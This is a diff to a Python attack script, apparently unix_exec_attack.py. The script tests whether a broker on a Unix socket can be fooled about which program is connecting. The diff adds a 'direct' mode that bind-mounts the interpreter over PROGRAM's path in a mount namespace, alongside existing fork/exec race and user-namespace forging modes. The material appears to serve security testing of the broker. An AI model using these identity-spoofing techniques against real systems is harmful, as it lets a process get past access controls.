@@ -14,6 +14,8 @@ anyway, and prints the last response it read as one JSON line
               parent execs PROGRAM; the child sends and reads
   exec-late   connect; wait until the broker has looked; send the request;
               fork; the parent execs PROGRAM; the child reads
+  direct      connect, send, read: run as PROGRAM's path in a mount namespace
+              where another file (this interpreter) is bind-mounted there
   userns-forge  run as `unshare -Urp --fork python3 unix_exec_attack.py ...`:
               in a user and pid namespace of its own, a child connects and
               execs PROGRAM; this script sends the request on the same
@@ -92,7 +94,10 @@ def become_the_agent():
 
 s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
 s.connect(path)
-if mode == "fork-send":
+if mode == "direct":
+    s.sendall(REQ)
+    report(follow(read_answer(s)))
+elif mode == "fork-send":
     if os.fork() == 0:
         time.sleep(0.5)  # until the parent runs the agent's program
         s.sendall(REQ)
